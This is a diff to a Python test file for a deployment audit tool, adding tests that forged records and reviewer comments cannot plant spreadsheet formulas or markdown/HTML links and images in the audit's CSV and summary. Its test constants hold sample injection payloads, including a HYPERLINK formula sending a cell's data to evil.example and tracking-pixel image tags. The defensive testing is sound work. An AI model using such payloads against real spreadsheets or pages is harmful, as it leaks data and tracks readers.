@@ -8,6 +8,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from datetime import datetime, timezone
 
 import pytest
@@ -166,7 +167,7 @@ def test_the_json_audit_holds_the_same_changes_with_each_approver_apart(pipeline
                                                 "no_later_than": story["t0"]}]
     [forged] = data["untrusted"]
     assert (forged["deployment_id"], forged["writer"], forged["claimed_version"]) == (story["forged"], "mallory", "6.6.6")
-    assert "Untrusted record ignored" in out.out and "## Audit: production of acme/app" in out.summary
+    assert "Untrusted record ignored" in out.out and "## Audit: production of acme" in out.summary
     assert any("GitHub keeps no time" in line for line in data["limits"])
 
 
@@ -223,3 +224,45 @@ def test_the_audit_reads_one_request_per_hundred_records(pipeline, double, count
     assert len(data["changes"]) == count and data["complete"] is True
     assert all(c["evidence"].startswith("staging record ") and "same digest" in c["evidence"] for c in data["changes"])
     assert data["requests"] == requests and double.total_requests() == requests  # 2 × count records, 100 a page
+
+
+# --- what the audit shows is text from outside: it must stay text where auditors open it ----------
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"details")'
+PIXEL = '![seen](https://evil.example/p.png) <img src="https://evil.example/q.png">'
+
+
+def _forged_after_an_approved_promotion(pipeline, double, *, version: str, comment: str) -> None:
+    double.set_environment("acme/app", "production-approval", reviewers=["alice"], prevent_self_review=True)
+    double.create_run("acme/app", run_id=4242, actor="bob", waiting_on=["production-approval"])
+    assert pipeline.release().code == 0
+    assert pipeline.promote("staging", mode="delivery").code == 0
+    double.review("acme/app", 4242, "production-approval", "alice", comment=comment)
+    assert pipeline.promote("production", mode="delivery", GITHUB_ACTOR="bob").code == 0
+    forged = {**pipeline.deployments("production")[-1]["payload"], "version": version}
+    Forger(double).deployment("production", forged, pipeline.sha)
+
+
+def test_a_forged_record_or_a_comment_cannot_plant_a_formula_in_the_csv(pipeline, double):
+    """CSV injection: a spreadsheet runs a cell that starts with = + - @ as a formula. A forged record's
+    claimed version and a reviewer's comment are written so that it shows them as text."""
+    _forged_after_an_approved_promotion(pipeline, double, version=FORMULA, comment="+SUM(1,2)")
+    out = pipeline.run("audit", "--since", "2000-01-01", "--format", "csv", actions=False)
+    assert out.code == 0, out.err
+    table = [line for line in out.out.splitlines() if not line.startswith(("#", "::"))]
+    rows = list(csv.DictReader(io.StringIO("\n".join(table))))
+    forged = next(r for r in rows if r["counted"] == "untrusted")
+    assert forged["version"] == "'" + FORMULA
+    [change] = [r for r in rows if r["counted"] == "yes"]
+    assert change["approvers"].startswith("alice") and '"+SUM(1,2)"' in change["approvers"]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
+
+
+def test_a_forged_record_cannot_put_links_images_or_html_in_the_summary(pipeline, double):
+    _forged_after_an_approved_promotion(pipeline, double, version=PIXEL, comment="[approve here](https://evil.example)")
+    out = pipeline.run("audit", "--since", "2000-01-01")
+    assert out.code == 0, out.err
+    assert "Not counted (untrusted)" in out.summary
+    for planted in ("![seen](", "<img", "[approve here](", "](https://evil.example"):
+        assert not re.search(r"(?<!\\)" + re.escape(planted), out.summary), planted  # only escaped: \<img
+    assert "\\<img" in out.summary  # shown, as text
